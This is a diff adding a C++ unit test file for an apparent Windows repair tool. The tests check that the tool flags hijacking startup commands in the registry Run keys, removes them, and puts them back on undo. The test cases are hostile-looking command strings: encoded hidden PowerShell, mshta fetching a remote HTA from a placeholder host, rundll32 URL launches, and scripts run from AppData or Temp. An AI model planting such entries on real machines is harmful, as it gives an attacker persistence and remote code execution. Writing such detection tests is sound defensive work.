@@ -1,0 +1,96 @@
+#include <gtest/gtest.h>
+
+#include "repair/startup/StartupCommand.h"
+#include "repair/startup/StartupEntries.h"
+#include "tests/native/RepairFixture.h"
+#include "text/RegistryEncoding.h"
+
+namespace tovask::test {
+namespace {
+
+struct CommandCase {
+    std::string name;
+    std::wstring command;
+    bool hijack;
+
+    friend void PrintTo(const CommandCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class StartupCommands : public testing::TestWithParam<CommandCase> {};
+
+TEST_P(StartupCommands, AreJudgedByWhatTheyStart) {
+    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
+}
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Commands, StartupCommands,
+    testing::Values(
+        CommandCase{"ChromeWithAddress", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" https://buscar.example)", true},
+        CommandCase{"EdgeLoadsExtension", LR"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe --load-extension=C:\Users\ana\AppData\Local\x)", true},
+        CommandCase{"ChromeAppWindow", LR"(chrome.exe --app=http://anuncios.example)", true},
+        CommandCase{"ChromeNoStartupWindow", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window /prefetch:5)", false},
+        CommandCase{"PowerShellEncoded", LR"(powershell.exe -NoP -W Hidden -enc SQBFAFgA)", true},
+        CommandCase{"PwshEncodedShortest", LR"(pwsh -e SQBFAFgA)", true},
+        CommandCase{"PowerShellExecutionPolicyOnly", LR"(powershell.exe -ex bypass -file "C:\Program Files\Vendor\tarea.ps1")", false},
+        CommandCase{"PowerShellScriptInAppData", LR"(powershell.exe -file "%APPDATA%\x\carga.ps1")", true},
+        CommandCase{"MshtaAddress", LR"(mshta.exe http://carga.example/a.hta)", true},
+        CommandCase{"CmdStartsAddress", LR"(cmd /c start https://anuncios.example)", true},
+        CommandCase{"Rundll32Address", LR"(rundll32.exe url.dll,FileProtocolHandler http://anuncios.example)", true},
+        CommandCase{"WscriptScriptInUsers", LR"(wscript.exe "C:\Users\ana\AppData\Roaming\s.vbs")", true},
+        CommandCase{"ScriptFileInTemp", LR"("C:\Windows\Temp\a.bat")", true},
+        CommandCase{"Rundll32SystemDll", LR"(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL)", false},
+        CommandCase{"OrdinaryProgram", LR"("C:\Program Files\Vendor\Updater.exe" /silent https://vendor.example)", false},
+        CommandCase{"Empty", L"", false}),
+    [](const testing::TestParamInfo<CommandCase>& info) { return info.param.name; });
+// clang-format on
+
+constexpr std::wstring_view kMachineRun =
+    L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\";
+constexpr std::wstring_view kUserRunOnce =
+    L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\";
+
+TEST(StartupEntries, CheckRepairCheckAndUndoPutTheValuesBack) {
+    RepairBench bench;
+    bench.platform.registry.twoViews = true;
+    bench.platform.registry.addKeysEveryWindowsHas();
+    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Actualizar",
+                                            stringValue(L"chrome.exe https://buscar.example"),
+                                            RegistryView::Bits32));
+    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Sonido",
+                                            stringValue(L"C:\\Program Files\\Audio\\audio.exe"),
+                                            RegistryView::Bits64));
+    bench.platform.RegWrite(std::wstring(kUserRunOnce) + L"x", L"powershell -enc SQBFAFgA",
+                            RegistryType::String);
+    const auto before = bench.platform.registry.snapshot();
+    bench.load();
+    bench.view.repairFindings = true;
+    ASSERT_EQ(bench.repair.checkWhatNeedsRepair(), RunOutcome::RepairNeeded);
+    bench.press();
+    EXPECT_TRUE(bench.errorLines().empty());
+    EXPECT_FALSE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
+            .ok());
+    EXPECT_TRUE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Sonido", RegistryView::Bits64)
+            .ok());
+    EXPECT_EQ(bench.repair.checkWhatNeedsRepair(), RunOutcome::Done);
+    bench.undo();
+    EXPECT_EQ(bench.platform.registry.snapshot(), before);
+    EXPECT_TRUE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
+            .ok());
+}
+
+TEST(StartupEntries, AreReportOnlyOnAManagedMachine) {
+    fake::FakePlatform platform;
+    platform.RegWrite(std::wstring(kMachineRun) + L"x", L"mshta http://a.example",
+                      RegistryType::String);
+    FailureLog failures(platform);
+    const auto found = findStartupEntries(platform, {}, true, failures);
+    ASSERT_EQ(found.size(), 1u);
+    EXPECT_FALSE(found[0].finding.repairable);
+}
+
+}  // namespace
+}  // namespace tovask::test
